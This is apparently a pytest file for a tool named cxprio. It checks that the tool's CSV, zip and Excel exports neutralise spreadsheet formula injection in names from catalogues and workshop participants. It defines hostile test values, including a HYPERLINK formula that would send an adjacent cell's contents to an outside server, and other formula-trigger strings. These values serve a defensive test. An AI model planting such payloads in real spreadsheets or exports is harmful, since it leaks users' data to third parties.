"""Formula injection: no name from the catalogue or the room runs when a file the board or
the command line wrote is opened in a spreadsheet.

Each file is made as a user makes it (``python -m cxprio ...`` in a subprocess, the
board's download function) from a catalogue, a store and a workshop round full of
hostile names, and read as a spreadsheet reads it: the workbook by openpyxl, the CSV by
the csv module. The expected cells are written here by hand.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import yaml

from cxprio.outputs.exports import csv_text, neutral, read_back

from .conftest import BASE, ROOT, store_cli

LINK = '=HYPERLINK("http://x/?"&A2,"x")'
"""The attack: a name that, run as a formula, sends the cell beside it to another server."""
HOSTILE = (LINK, "+1", "-1+2", "@SUM(A1)", "\tx", "\rx")
SPLIT = "x\r@SUM(A1)"
"""A carriage return inside a name: unquoted, it starts a row whose first cell runs."""
PEOPLE = (LINK, "+1", "-1+2", "@SUM(A1)")
"""Participants' names: the board refuses control characters (a tab, a CR) in a name."""

TEAMS = {"billing": "+1", "digital": "-1+2", "metering": "@SUM(A1)"}
# A catalogue refuses control characters (a tab, a CR) in its text, as the board refuses
# them in a typed name; csv_text's own tests cover those.
EXPERIENCES = {"moving-home": LINK, "move-out": "=1+1", "final-reading": "-x"}
STEPS = ("@SUM(A1)", "=A1", "-1+2", "+A1")
DECISIONS = ("+1", "@x")


def hostile_catalogue(**measures: float) -> dict[str, Any]:
    """The tests' small catalogue with a hostile name in every place a name goes: the
    organisation, the teams, the experiences, the steps and the decisions (``measures``
    replace the first experience's)."""
    data = copy.deepcopy(BASE)
    data["organisation"] = LINK
    for team in data["teams"]:
        team["name"] = TEAMS[team["id"]]
    for experience in data["experiences"]:
        experience["name"] = EXPERIENCES[experience["id"]]
    first = data["experiences"][0]
    first["measures"].update(measures)
    first["steps"] = [
        {"name": STEPS[0], "team": "digital"},
        {"name": STEPS[1], "team": "metering", "handoff_owner": "metering"},
        {"name": STEPS[2], "team": "billing"},  # an unowned seam, with a finding
        {"name": STEPS[3], "team": "digital"},
    ]
    first["decisions"] = [
        {"name": DECISIONS[0], "A": "billing", "R": ["digital"]},
        {"name": DECISIONS[1], "A": ["billing", "metering"]},  # two Accountable: a finding
    ]
    return data


def write_yaml(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def rows_of(text: str) -> list[list[str]]:
    """CSV text as a spreadsheet reads it: quoted cells whole, whatever they hold."""
    return list(csv.reader(io.StringIO(text, newline="")))


def records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` (read from a CSV file) as a formula: it
    starts with ``=``, ``+``, ``@``, a tab or a CR, or with ``-`` and is not a number."""
    if cell.startswith(("=", "+", "@", "\t", "\r")):
        return True
    return cell.startswith("-") and NUMBER.fullmatch(cell) is None


def assert_nothing_runs(name: str, text: str) -> None:
    for line, row in enumerate(rows_of(text), start=1):
        for cell in row:
            assert not runs(cell), f"{name}, row {line}: {cell!r} would run as a formula"


# --- the shared function -----------------------------------------------------------------


def test_csv_text_quotes_text_that_would_run_and_leaves_numbers_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "ok", None],
            "rise": [-3, 1, 0, 2, -1, 5, 7],
            "share": [-0.5, 0.25, 1.0, 0.0, 2.5, -1.25, 3.0],
            "level": pd.Categorical(["-x", "trigger", "-x", "trigger", "-x", "trigger", "-x"]),
            "mixed": pd.Series([-3, "-3", "x", 1.5, True, "=A1", None], dtype=object),
        }
    )
    before = frame.copy()
    assert csv_text(frame, index=False) == (
        "name,rise,share,level,mixed\n"
        "'=1+2,-3,-0.5,'-x,-3\n"
        "'+1,1,0.25,trigger,'-3\n"
        "'-1+2,0,1.0,'-x,x\n"
        "'@SUM(A1),2,0.0,trigger,1.5\n"
        "'\tx,-1,2.5,'-x,True\n"
        "ok,5,-1.25,trigger,'=A1\n"
        ",7,3.0,'-x,\n"
    )
    pd.testing.assert_frame_equal(frame, before)  # the caller's table is left as it was


def test_csv_text_quotes_a_column_name_that_would_run() -> None:
    assert csv_text(pd.DataFrame({"=A1": [1], "team": ["x"]}), index=False) == "'=A1,team\n1,x\n"


def test_a_carriage_return_in_a_name_stays_inside_its_cell() -> None:
    frame = pd.DataFrame({"name": [SPLIT, "\rx", "plain"], "rank": [1, 2, 3]})
    text = csv_text(frame, index=False)
    assert rows_of(text) == [["name", "rank"], [SPLIT, "1"], ["'\rx", "2"], ["plain", "3"]]
    assert_nothing_runs("the table", text)


@pytest.mark.parametrize(
    "text", [*HOSTILE, "'=A1", "''+1", "'", "", "plain", "'plain", "it's", "x=1", " =1", "-"]
)
def test_reading_a_cell_back_gives_the_text_that_was_written(text: str) -> None:
    assert read_back(neutral(text)) == text


@pytest.mark.parametrize("cell", ["'3", "'plain", "'", "x'=1"])
def test_reading_back_keeps_a_quote_that_was_not_put_before_a_formula(cell: str) -> None:
    assert read_back(cell) == cell


# --- the files the command line writes, from a hostile store -----------------------------


@dataclass(frozen=True)
class Workshop:
    """A store made by the command line: two quarters' snapshots of the hostile
    catalogue (the first experience falls between them), a round on two experiences
    scored by hostile participants, its raw scores read back as a scores file, then
    closed; and what each command wrote."""

    url: str
    code: str
    then: dict[str, Any]
    now: dict[str, Any]
    now_file: Path
    raw_scores: str
    reimport: str
    participants_before: int
    participants_after: int


def cli(url: str, *args: str) -> str:
    """``python -m cxprio ARGS`` on the store at ``url``: its stdout, every byte as written
    (text mode would turn a CR inside a quoted cell into a line feed)."""
    result = subprocess.run(
        [sys.executable, "-m", "cxprio", *args],
        cwd=ROOT,
        env={**os.environ, "CXPRIO_DATABASE_URL": url},
        capture_output=True,
        timeout=120,
    )
    stderr = result.stderr.decode("utf-8")
    assert result.returncode == 0, f"{args}: {stderr}"
    assert "Traceback" not in stderr
    return result.stdout.decode("utf-8")


@pytest.fixture(scope="module")
def workshop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workshop]:
    where = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{where / 'store.db'}"
    then = hostile_catalogue()
    now = hostile_catalogue(reach=1000, depth=1)  # moving home falls
    cli(url, "snapshot", str(write_yaml(where / "then.yaml", then)), "--quarter", "2026-Q3")
    now_file = write_yaml(where / "now.yaml", now)
    cli(url, "snapshot", str(now_file), "--quarter", "2026-Q4")
    code = cli(
        url, "round", "open", "--experiences", "moving-home,move-out", "--criteria", "depth",
        "--title", LINK, "--author", "@facilitator",
    ).strip()  # fmt: skip
    for depth, name in enumerate(PEOPLE, start=2):
        for experience in ("moving-home", "move-out"):
            cli(url, "round", "score", code, f"--name={name}", "--experience", experience,
                "--criterion", "depth", "--value", str(depth))  # fmt: skip
    raw = where / "raw.csv"
    cli(url, "round", "show", code, "--format", "csv", "--out", str(raw))
    raw_scores = raw.read_text(encoding="utf-8")

    def count() -> int:
        shown = json.loads(cli(url, "round", "show", code, "--format", "json"))
        return int(shown["participants"])

    before = count()
    back = io.StringIO()
    writer = csv.writer(back, lineterminator="\n")  # the file without its updated_at, as a person saves it
    writer.writerows(row[:4] for row in rows_of(raw_scores))
    scores_file = where / "back.csv"
    scores_file.write_text(back.getvalue(), encoding="utf-8")
    reimport = store_cli(url, "round", "import", code, str(scores_file))
    assert reimport.returncode == 0, reimport.stderr
    after = count()
    cli(url, "round", "close", code, "--accept", "all", "--author", "@facilitator")
    yield Workshop(url, code, then, now, now_file, raw_scores, reimport.stderr, before, after)


def test_every_text_in_the_workbook_is_a_text_cell_and_numbers_are_numbers(
    workshop: Workshop, tmp_path: Path
) -> None:
    out = tmp_path / "pack.xlsx"
    cli(workshop.url, "report", str(workshop.now_file), "--format", "xlsx", "--round", workshop.code,
        "--out", str(out))  # fmt: skip
    book = openpyxl.load_workbook(out)
    assert {"Quarter comparison", "Round results", "Round changes"} <= set(book.sheetnames)
    texts: set[str] = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}: {cell.data_type}"
                    texts.add(cell.value)
    names = {LINK, *TEAMS.values(), *EXPERIENCES.values(), *STEPS, *DECISIONS}
    assert names <= texts, f"names missing from the workbook: {names - texts}"  # the test saw them all
    cover = book["Cover"]
    assert cover["B2"].value == LINK and cover["A2"].value == "Organisation"
    priorities = book["Priorities"]
    header = [c.value for c in priorities[1]]
    reach = {
        row[header.index("Id")].value: row[header.index("Reach")] for row in priorities.iter_rows(min_row=2)
    }
    assert reach["moving-home"].value == 1000 and reach["moving-home"].data_type == "n"
    assert reach["move-out"].value == 170000 and reach["move-out"].data_type == "n"


def test_score_csv_from_the_command_line_quotes_hostile_names_and_keeps_numbers(tmp_path: Path) -> None:
    path = write_yaml(tmp_path / "hostile.yaml", hostile_catalogue())
    text = cli("sqlite://", "score", str(path), "--format", "csv")
    assert_nothing_runs("score --format csv", text)
    rows = {r["id"]: r for r in records(text)}
    assert {i: r["name"] for i, r in rows.items()} == {i: "'" + n for i, n in EXPERIENCES.items()}
    written = {e["id"]: e["measures"] for e in BASE["experiences"]}
    for experience, measures in written.items():  # the catalogue's numbers, as written
        assert float(rows[experience]["reach"]) == measures["reach"]
        assert float(rows[experience]["cost"]) == measures["cost"]
    assert sorted(int(r["rank"]) for r in rows.values()) == [1, 2, 3]


def test_seams_csv_from_the_command_line_quotes_hostile_team_and_step_names(tmp_path: Path) -> None:
    path = write_yaml(tmp_path / "hostile.yaml", hostile_catalogue())
    out = tmp_path / "seams.csv"
    cli("sqlite://", "seams", str(path), "--format", "csv", "--out", str(out))
    text = out.read_bytes().decode("utf-8")
    assert_nothing_runs("seams --format csv", text)
    seams = [(r["from_step"], r["to_step"], r["from_team_name"], r["to_team_name"]) for r in records(text)]
    assert sorted(seams) == sorted(
        [
            ("'@SUM(A1)", "'=A1", "'-1+2", "'@SUM(A1)"),
            ("'=A1", "'-1+2", "'@SUM(A1)", "'+1"),
            ("'-1+2", "'+A1", "'+1", "'-1+2"),
        ]
    )


def test_every_csv_in_the_tables_zip_quotes_hostile_names(tmp_path: Path) -> None:
    path = write_yaml(tmp_path / "hostile.yaml", hostile_catalogue())
    out = tmp_path / "tables.zip"
    cli("sqlite://", "tables", str(path), "--out", str(out))
    cells: set[str] = set()
    with zipfile.ZipFile(out) as bundle:
        for name in bundle.namelist():
            text = bundle.read(name).decode("utf-8")
            assert_nothing_runs(name, text)
            cells |= {cell for row in rows_of(text) for cell in row}
        raci = records(bundle.read("raci-matrix.csv").decode("utf-8"))
    assert {"'" + n for n in (*EXPERIENCES.values(), *DECISIONS)} <= cells
    assert {"'" + n for n in TEAMS.values()} <= cells
    assert sorted(r["decision"] for r in raci) == sorted("'" + d for d in DECISIONS)


def test_the_raw_scores_quote_hostile_participants_and_read_back_as_the_same_people(
    workshop: Workshop,
) -> None:
    assert_nothing_runs("round show --format csv", workshop.raw_scores)
    rows = records(workshop.raw_scores)
    assert sorted({r["participant"] for r in rows}) == sorted("'" + p for p in PEOPLE)
    depth = {(r["participant"], r["experience"]): r["value"] for r in rows}
    assert depth == {
        ("'" + name, experience): str(value)
        for value, name in enumerate(PEOPLE, start=2)
        for experience in ("moving-home", "move-out")
    }
    # The file read back is the same people's scores, not four new people with a quote.
    assert "saved 8 scores" in workshop.reimport and "0 new participant(s)" in workshop.reimport
    assert workshop.participants_before == workshop.participants_after == len(PEOPLE)


def test_compare_and_history_csv_quote_hostile_names_and_keep_negative_numbers(workshop: Workshop) -> None:
    movement = cli(workshop.url, "compare", "2026-Q3", "2026-Q4", "--format", "csv")
    assert_nothing_runs("compare --format csv", movement)
    rows = {r["id"]: r for r in records(movement)}
    assert {i: r["name"] for i, r in rows.items()} == {i: "'" + n for i, n in EXPERIENCES.items()}
    # Moving home was first of three and is last now (its reach and depth were cut): by hand.
    assert (rows["moving-home"]["rank_then"], rows["moving-home"]["rank_now"]) == ("1", "3")
    assert rows["moving-home"]["rise"] == "-2"
    changes = cli(workshop.url, "history", "--changes", "--format", "csv")
    assert_nothing_runs("history --changes --format csv", changes)
    closing = [r for r in records(changes) if r["author"] == "'@facilitator"]
    assert closing and all(f"workshop round {workshop.code}" in r["rationale"] for r in closing)
    versions = cli(workshop.url, "history", "--format", "csv")
    assert_nothing_runs("history --format csv", versions)
    assert "'@facilitator" in {r["author"] for r in records(versions)}


# --- the board's downloads ---------------------------------------------------------------


class Recorder:
    """Stands in for a Streamlit container: keeps what a download button would send."""

    def __init__(self) -> None:
        self.files: dict[str, Any] = {}

    def download_button(self, label: str, data: Any, **options: Any) -> None:
        self.files[options["file_name"]] = data


def test_the_boards_csv_downloads_quote_hostile_names() -> None:
    from board.show import csv_download

    table = pd.DataFrame({"name": list(EXPERIENCES.values()), "rise": [-2, 1, 1]})
    place = Recorder()
    csv_download("Download", table, "table.csv", "key", {"reach": 1.0}, place=place)
    csv_download("Download", lambda: table, "later.csv", "key2", None, place=place)
    for name in ("table.csv", "later.csv"):
        text = place.files[name]().decode("utf-8")
        assert_nothing_runs(name, text)
        rows = records(text)
        assert [r["name"] for r in rows] == ["'" + n for n in EXPERIENCES.values()]
        assert [r["rise"] for r in rows] == ["-2", "1", "1"]


def test_every_csv_the_board_and_command_line_write_goes_through_csv_text() -> None:
    """A CSV written straight by pandas anywhere but cxprio/outputs/exports.py would be unprotected."""
    writers = []
    for folder in ("cxprio", "board", "pages"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "cxprio" / "outputs" / "exports.py":
                continue
            text = path.read_text(encoding="utf-8")
            if ".to_csv(" in text or "csv.writer(" in text or "DictWriter(" in text:
                writers.append(str(path.relative_to(ROOT)))
    assert not writers, f"CSV written without cxprio.outputs.exports.csv_text in {writers}"
    assert (ROOT / "app.py").read_text(encoding="utf-8").count(".to_csv(") == 0
